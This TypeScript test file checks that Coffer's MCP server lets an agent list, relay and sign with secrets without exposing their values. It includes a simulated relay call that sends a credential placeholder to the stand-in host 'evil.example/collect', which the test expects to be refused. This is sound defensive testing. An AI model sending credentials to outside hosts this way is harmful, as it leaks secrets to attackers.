/**
 * Coffer's MCP server, driven by the MCP SDK's own client over both
 * transports: a real `coffer mcp` child process over stdio, and a real
 * `coffer server` over Streamable HTTP at /mcp. An agent lists secrets and
 * relays through a local upstream that echoes the credential back; the
 * upstream gets the value, and no tool result or error the agent sees holds
 * it, plainly or encoded.
 */
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StdioClientTransport } from "@modelcontextprotocol/sdk/client/stdio.js";
import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
import type { Transport } from "@modelcontextprotocol/sdk/shared/transport.js";
import { Coffer } from "@coffer/sdk";
import assert from "node:assert/strict";
import { join } from "node:path";
import { test, type TestContext } from "node:test";
import { COFFER_BIN, startServer, type RunningServer } from "../../server/test/support/server.ts";
import { STORES, tempDir } from "../../server/test/support/stores.ts";
import { startUpstream, upstreamPolicy, type Upstream } from "../../sdk/test/support/upstream.ts";

const VALUE = `sk-mcp-${Math.random().toString(36).slice(2, 14)}`;
const DB_PASSWORD = `db-pass-${Math.random().toString(36).slice(2, 14)}`;
const PLACEHOLDER = "@{vault.openai/api-key}";

/** The value as an agent might find it if anything leaked: plain and in its common encodings. */
function forms(value: string): string[] {
  const bytes = Buffer.from(value);
  return [value, bytes.toString("base64"), bytes.toString("base64url"), bytes.toString("hex"), encodeURIComponent(value), Buffer.from(`Bearer ${value}`).toString("base64")];
}
const FORBIDDEN = [...forms(VALUE), ...forms(DB_PASSWORD)];

interface Env {
  server: RunningServer;
  upstream: Upstream;
  /** Tokens of the bootstrap administrator's own: `use` (an agent's), `see` only. */
  useToken: string;
  seeToken: string;
  hmacSignature: string;
}

async function setUp(t: TestContext): Promise<Env> {
  const target = (await STORES[0]!.open(t))!;
  const server = await startServer(t, target);
  t.after(() => server.stop());
  const upstream = await startUpstream(t);
  const admin = new Coffer({ addr: server.url, token: server.token! });
  await admin.secrets.create("openai/api-key", { value: VALUE });
  await admin.setRelayPolicy("openai/api-key", upstreamPolicy(upstream));
  await admin.secrets.create("database", { host: "db.internal", password: DB_PASSWORD });
  await admin.secrets.create("webhooks/signing", undefined, { type: "HMAC" });
  const hmacSignature = (await admin.secrets.sign("webhooks/signing", "hello")).signature;
  const useToken = (await admin.tokens.create({ name: "agent", access: "use", labels: { agent: "mcp-test" } })).token;
  const seeToken = (await admin.tokens.create({ name: "peek", access: "see" })).token;
  return { server, upstream, useToken, seeToken, hmacSignature };
}

function stdioTransport(t: TestContext, env: Env, token: string): Transport {
  return new StdioClientTransport({
    command: process.execPath,
    args: [COFFER_BIN, "mcp", "--agent", "stdio-test"],
    env: { PATH: process.env.PATH ?? "", COFFER_ADDR: env.server.url, COFFER_TOKEN: token, COFFER_CONFIG_DIR: join(tempDir(), "config") },
    stderr: "pipe",
  });
}

function httpTransport(env: Env, token: string): Transport {
  return new StreamableHTTPClientTransport(new URL(`${env.server.url}/mcp`), { requestInit: { headers: { authorization: `Bearer ${token}` } } });
}

const TRANSPORTS = [
  { name: "stdio (coffer mcp)", open: stdioTransport },
  { name: "Streamable HTTP (/mcp)", open: (_t: TestContext, env: Env, token: string) => httpTransport(env, token) },
];

/** Every text the agent was shown, checked for the values in any common encoding. */
function assertNoValue(seen: unknown[]): void {
  const text = JSON.stringify(seen);
  for (const form of FORBIDDEN) assert.ok(!text.includes(form), `the agent saw a value (as '${form.slice(0, 6)}…')`);
}

async function connect(t: TestContext, transport: Transport): Promise<Client> {
  const client = new Client({ name: "coffer-test", version: "1.0.0" });
  await client.connect(transport);
  t.after(() => client.close());
  return client;
}

for (const { name, open } of TRANSPORTS) {
  test(`over ${name}: an agent lists and relays with placeholders, signs, and never sees a value`, async (t) => {
    const env = await setUp(t);
    const client = await connect(t, open(t, env, env.useToken));
    const seen: unknown[] = [];

    const { tools } = await client.listTools();
    assert.deepEqual(tools.map((tool) => tool.name).sort(), ["hmac_sign", "hmac_verify", "list_secrets", "relay_request", "request_access"]);
    for (const tool of tools.filter((tool) => tool.name === "list_secrets" || tool.name === "relay_request")) {
      assert.match(tool.description ?? "", /@\{vault\.NAME\}.*@\{vault\.NAME\.KEY\}/, `${tool.name} tells the model how to reference a secret`);
    }

    const listed = await client.callTool({ name: "list_secrets", arguments: {} });
    seen.push(listed);
    assert.equal(listed.isError, undefined);
    const secrets = (listed.structuredContent as { secrets: { name: string; references: string[]; keys: string[]; type: string; relayHosts: string[] }[] }).secrets;
    const byName = new Map(secrets.map((secret) => [secret.name, secret]));
    assert.deepEqual(byName.get("openai/api-key")?.references, [PLACEHOLDER]);
    assert.deepEqual(byName.get("openai/api-key")?.relayHosts, ["127.0.0.1"]);
    assert.deepEqual(byName.get("database")?.references, ["@{vault.database.host}", "@{vault.database.password}"]);
    assert.deepEqual(byName.get("database")?.relayHosts, [], "no policy: it cannot be relayed");
    assert.equal(byName.get("webhooks/signing")?.type, "HMAC");

    const relayed = await client.callTool({
      name: "relay_request",
      arguments: { method: "POST", url: `${env.upstream.url}/echo`, headers: { Authorization: `Bearer ${PLACEHOLDER}` }, body: "hi" },
    });
    seen.push(relayed);
    assert.equal(relayed.isError, undefined, JSON.stringify(relayed.content));
    const answer = relayed.structuredContent as { status: number; headers: Record<string, string>; body: string };
    assert.equal(answer.status, 200);
    assert.equal(env.upstream.received.at(-1)?.headers.authorization, `Bearer ${VALUE}`, "the upstream got the value");
    const echoed = JSON.parse(answer.body) as { authorization: string };
    assert.equal(echoed.authorization, `Bearer ${PLACEHOLDER}`, "the echoed value came back as its placeholder");
    assert.equal(answer.headers["x-echo-authorization"], `Bearer ${PLACEHOLDER}`);

    // Refusals are tool errors the model can read; nothing is sent.
    const before = env.upstream.received.length;
    const elsewhere = await client.callTool({ name: "relay_request", arguments: { method: "GET", url: "https://evil.example/collect", headers: { Authorization: `Bearer ${PLACEHOLDER}` } } });
    seen.push(elsewhere);
    assert.equal(elsewhere.isError, true);
    assert.match(JSON.stringify(elsewhere.content), /DESTINATION_NOT_ALLOWED/);
    const unpolicied = await client.callTool({ name: "relay_request", arguments: { method: "GET", url: `${env.upstream.url}/echo?key=@{vault.database.password}` } });
    seen.push(unpolicied);
    assert.match(JSON.stringify(unpolicied.content), /DESTINATION_NOT_ALLOWED: secret 'database' has no relay policy/);
    assert.equal(env.upstream.received.length, before, "a refused call sends nothing");

    const signed = await client.callTool({ name: "hmac_sign", arguments: { secret: "webhooks/signing", message: "hello" } });
    seen.push(signed);
    assert.equal((signed.structuredContent as { signature: string }).signature, env.hmacSignature);
    const verified = await client.callTool({ name: "hmac_verify", arguments: { secret: "webhooks/signing", message: "hello", signature: env.hmacSignature } });
    const forged = await client.callTool({ name: "hmac_verify", arguments: { secret: "webhooks/signing", message: "hullo", signature: env.hmacSignature } });
    seen.push(verified, forged);
    assert.equal((verified.structuredContent as { valid: boolean }).valid, true);
    assert.equal((forged.structuredContent as { valid: boolean }).valid, false);

    const missing = await client.callTool({ name: "hmac_sign", arguments: { secret: "no/such", message: "x" } });
    seen.push(missing);
    assert.equal(missing.isError, true);
    assert.match(JSON.stringify(missing.content), /SECRET_NOT_FOUND/);
    assertNoValue(seen);
  });

  test(`over ${name}: a token without use gets a clear tool error, and the session goes on`, async (t) => {
    const env = await setUp(t);
    const client = await connect(t, open(t, env, env.seeToken));
    const seen: unknown[] = [];
    const relayed = await client.callTool({ name: "relay_request", arguments: { method: "GET", url: `${env.upstream.url}/echo`, headers: { Authorization: `Bearer ${PLACEHOLDER}` } } });
    seen.push(relayed);
    assert.equal(relayed.isError, true);
    assert.match(JSON.stringify(relayed.content), /ACCESS_DENIED/);
    assert.equal((relayed.structuredContent as { error: { code: string; status: number } }).error.status, 403);
    const signed = await client.callTool({ name: "hmac_sign", arguments: { secret: "webhooks/signing", message: "hello" } });
    seen.push(signed);
    assert.match(JSON.stringify(signed.content), /ACCESS_DENIED/);
    assert.equal(env.upstream.received.length, 0);
    // It may ask a person for more, and gets the pending request back.
    const asked = await client.callTool({ name: "request_access", arguments: { secret: "openai/api-key", reason: "to call the model for the user" } });
    seen.push(asked);
    assert.equal(asked.isError, undefined, JSON.stringify(asked.content));
    assert.deepEqual(
      ["kind", "action", "status", "secretName"].map((key) => (asked.structuredContent as Record<string, unknown>)[key]),
      ["grant", "use", "pending", "openai/api-key"],
    );
    // Metadata is what `see` allows: the same session still lists.
    const listed = await client.callTool({ name: "list_secrets", arguments: {} });
    seen.push(listed);
    assert.equal(listed.isError, undefined);
    assert.ok((listed.structuredContent as { secrets: unknown[] }).secrets.length >= 3);
    assertNoValue(seen);
  });
}

test("/mcp refuses a missing or unknown token with 401, and is not driven by the UI's session cookie", async (t) => {
  const env = await setUp(t);
  const initialize = { jsonrpc: "2.0", id: 1, method: "initialize", params: { protocolVersion: "2025-06-18", capabilities: {}, clientInfo: { name: "curl", version: "1" } } };
  const post = (headers: Record<string, string>) =>
    fetch(`${env.server.url}/mcp`, { method: "POST", headers: { "content-type": "application/json", accept: "application/json, text/event-stream", ...headers }, body: JSON.stringify(initialize) });
  const none = await post({});
  assert.equal(none.status, 401);
  assert.equal(((await none.json()) as { error: { code: string } }).error.code, "UNAUTHENTICATED");
  assert.equal((await post({ authorization: "Bearer cft_not_a_token" })).status, 401);
  assert.equal((await post({ cookie: `coffer_session=${env.useToken}` })).status, 401, "a cookie is not a bearer token");
  assert.equal((await post({ authorization: `Bearer ${env.useToken}` })).status, 200);
  const get = await fetch(`${env.server.url}/mcp`, { headers: { authorization: `Bearer ${env.useToken}`, accept: "text/event-stream" } });
  assert.equal(get.status, 405, "stateless: no server-sent stream");
});

test("coffer mcp without a token says how to log in, on stderr, and exits", async (t) => {
  const { run } = await import("../../cli/test/support/cli.ts");
  const result = await run(["mcp"], { env: { COFFER_CONFIG_DIR: join(tempDir(), "config"), COFFER_ADDR: "http://127.0.0.1:9" } });
  assert.notEqual(result.code, 0);
  assert.equal(result.stdout, "", "stdout is the protocol's alone");
  assert.match(result.stderr, /not logged in .*coffer login.*COFFER_TOKEN/);
  const help = await run(["mcp", "--help"]);
  assert.equal(help.code, 0);
  assert.match(help.stdout, /mcpServers/);
});
